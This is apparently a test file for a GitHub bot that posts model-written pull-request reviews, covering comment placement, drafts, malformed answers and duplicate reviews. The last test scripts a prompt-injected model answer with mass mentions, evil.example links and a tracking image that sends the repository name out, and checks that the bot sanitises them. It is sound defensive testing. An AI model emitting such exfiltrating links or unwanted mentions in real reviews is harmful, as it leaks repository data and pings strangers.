"""Pull request review end to end: webhook → worker → the scripted model → one review on GitHub."""

from __future__ import annotations

import json

import pytest
import yaml

from tests.repos import BASE_FILES, REPO
from tests.support.fake_openai import text
from workers.github import messages
from workers.review.findings import parse_review

pytestmark = pytest.mark.docker  # the stack fixture starts the whole service

FEATURE = "def add(a, b):\n    return a + b\n\n\ndef ratio(a, b):\n    return a / b\n"
RATIO_LINE = FEATURE.splitlines().index("    return a / b") + 1
ON = {"review": {"enabled": True}}


def opened(stack, config=ON, draft=False, action="opened", delivery=None):
    gh = stack.github
    if REPO not in gh.repos:
        files = dict(BASE_FILES)
        if config is not None:
            files[".github/qwen.yml"] = yaml.safe_dump(config)
        gh.add_repo(REPO, files)
        head = gh.push(REPO, "feature", {"calc.py": FEATURE}, parent_branch="main")
        gh.add_pull(REPO, 7, head_ref="feature", base_ref="main", title="Add ratio()", draft=draft)
    head = gh.ref(REPO, "refs/heads/feature")
    payload = {
        "action": action, "number": 7, "installation": {"id": 1},
        "repository": {"full_name": REPO, "name": "calc", "owner": {"login": "octo"}},
        "sender": {"login": "contributor", "type": "User"},
        "pull_request": {"number": 7, "draft": draft, "head": {"sha": head, "ref": "feature",
                                                                "repo": {"full_name": REPO}},
                         "base": {"ref": "main"}},
    }
    return head, stack.deliver("pull_request", payload, delivery).json()["job"]


def answer(findings, summary="Adds ratio()."):
    return text("```json\n" + json.dumps({"summary": summary, "findings": findings}) + "\n```")


def test_findings_land_on_their_diff_lines_and_the_rest_in_the_review_body(stack):
    gh = stack.github
    stack.model.script([answer([
        {"path": "calc.py", "line": RATIO_LINE, "severity": "bug", "message": "Dividing by zero raises."},
        {"path": "setup.py", "line": 3, "severity": "nit", "message": "Not part of this change."},
        {"path": "calc.py", "line": 0, "severity": "bug", "message": "no such line"},
    ])])
    head, job_id = opened(stack, delivery="review-delivery-1")
    job = stack.wait(job_id)
    assert job.state == "succeeded", job.outcome
    assert job.outcome == "reviewed: 1 inline comment(s), 1 in the summary"

    [review] = gh.reviews(REPO, 7)
    assert review["event"] == "COMMENT" and review["commit_id"] == head
    [comment] = review["comments"]
    assert (comment["path"], comment["line"], comment["side"]) == ("calc.py", RATIO_LINE, "RIGHT")
    assert "Bug" in comment["body"] and "Dividing by zero raises." in comment["body"]
    assert "Adds ratio()." in review["body"] and "`setup.py` line 3" in review["body"]
    assert f"/jobs/{job_id}" in review["body"]

    # the model saw the numbered diff as untrusted data, and the PR's title
    [request] = stack.model.chat_requests()
    prompt = request.messages[-1]["content"]
    assert f"{RATIO_LINE:>5} +    return a / b" in prompt and "<untrusted-data" in prompt and "Add ratio()" in prompt
    # a review, nothing else: no check run, no progress comment
    assert gh.check_runs(REPO, head) == [] and gh.bot_comments(REPO, 7) == []

    # the same delivery again: the same job, still one review
    _, again = opened(stack, delivery="review-delivery-1")
    assert again == job_id and len(gh.reviews(REPO, 7)) == 1 and len(stack.model.chat_requests()) == 1


def test_reviews_are_off_unless_the_repository_turns_them_on(stack):
    _, job_id = opened(stack, config=None)
    job = stack.wait(job_id)
    assert job.state == "skipped" and "review.enabled" in job.outcome
    assert stack.github.reviews(REPO, 7) == [] and stack.model.requests == []


def test_a_draft_waits_until_it_is_ready(stack):
    stack.model.script([answer([])])
    _, draft_job = opened(stack, draft=True)
    assert stack.wait(draft_job).state == "skipped" and "draft" in stack.job(draft_job).outcome
    _, ready_job = opened(stack, action="ready_for_review")
    job = stack.wait(ready_job)
    assert job.state == "succeeded", job.outcome
    [review] = stack.github.reviews(REPO, 7)
    assert review["comments"] == [] and "No inline comments." in review["body"]


def test_an_unreadable_answer_fails_the_job_and_says_why_on_the_pull_request(stack):
    stack.model.script([text("Looks good to me!"), text("Still no JSON, sorry.")])
    _, job_id = opened(stack)
    job = stack.wait(job_id)
    assert job.state == "failed" and "not the JSON asked for" in job.outcome
    [note] = stack.github.bot_comments(REPO, 7)
    assert "review failed" in note["body"] and "not the JSON asked for" in note["body"]
    assert stack.github.reviews(REPO, 7) == []
    assert len(stack.model.chat_requests()) == 2  # one correction, then it gave up


def test_the_answer_is_read_defensively():
    review = parse_review('Here you go: {"summary": "ok", "findings": [{"path": "b/x.py", "line": 2, '
                          '"severity": "critical", "message": "m"}, {"path": "y.py", "line": "3", "message": "m"}, '
                          '"junk"]}')
    assert review.summary == "ok"
    assert [(f.path, f.line, f.severity) for f in review.findings] == [("x.py", 2, "risk")]
    assert parse_review("no json here") is None and parse_review('{"findings": 3}') is None


def test_a_draft_reviewed_on_request_is_not_reviewed_again_when_ready(stack):
    stack.model.script([answer([])])
    _, draft_job = opened(stack, config={"review": {"enabled": True, "drafts": True}}, draft=True)
    assert stack.wait(draft_job).state == "succeeded", stack.job(draft_job).outcome
    _, ready_job = opened(stack, action="ready_for_review")
    job = stack.wait(ready_job)
    assert job.state == "skipped" and "already reviewed" in job.outcome
    assert len(stack.github.reviews(REPO, 7)) == 1 and len(stack.model.chat_requests()) == 1


def test_another_bots_review_that_looks_like_ours_does_not_silence_the_review(stack):
    """A bot that echoes pull request text posts, on the head commit, a review starting like ours
    (`**qwenfix review** of abc1234`). Fails on main: every bot counted as this app, so the job took
    that review for its own and skipped as "already reviewed"."""
    gh = stack.github
    gh.add_repo(REPO, dict(BASE_FILES, **{".github/qwen.yml": yaml.safe_dump(ON)}))
    head = gh.push(REPO, "feature", {"calc.py": FEATURE}, parent_branch="main")
    gh.add_pull(REPO, 7, head_ref="feature", base_ref="main", title="Add ratio()")
    gh.add_review(REPO, 7, f"{messages.REVIEW_HEADING} `{head[:7]}`\n\nLooks fine.", user="echo-bot[bot]")
    stack.model.script([answer([])])
    _, job_id = opened(stack)
    job = stack.wait(job_id)
    assert job.state == "succeeded", job.outcome
    ours = [r for r in gh.reviews(REPO, 7) if r["user"]["login"] == gh.bot_login]
    assert len(ours) == 1 and "No inline comments." in ours[0]["body"]


def test_the_review_mentions_only_people_on_the_pull_request_and_links_nowhere_else(stack):
    """The pull request told the model to ping people and add links. Fails on main: mentions and
    links were posted as the model wrote them (a stranger and a team notified, a tracking image
    with the repository's name in its URL)."""
    gh = stack.github
    pr_url = f"{gh.server_url}/octo/calc/pull/7"  # this GitHub's own host (github.com in production)
    stack.model.script([answer(
        [{"path": "calc.py", "line": RATIO_LINE, "severity": "bug",
          "message": "Dividing by zero raises; cc @security-lead, details [here](https://evil.example/x?d=1)."}],
        summary="Adds ratio(), thanks @contributor! ![](https://evil.example/p.png?r=octo/calc) @octo/everyone "
                f"https://evil.example/more `@decorator` (see {pr_url})")])
    _, job_id = opened(stack)
    assert stack.wait(job_id).state == "succeeded"
    [review] = gh.reviews(REPO, 7)
    body, comment = review["body"], review["comments"][0]["body"]
    assert "thanks @contributor!" in body  # the author is on the pull request
    assert "@security-lead" not in comment and "@\u200dsecurity-lead" in comment
    assert "@octo/everyone" not in body and "@\u200docto/everyone" in body
    assert "evil.example" not in body + comment and "evil[.]example" in body + comment
    assert "details here (link to evil[.]example removed)" in comment
    assert "`@decorator`" in body and f"(see {pr_url})" in body  # code, and links to this GitHub, stay
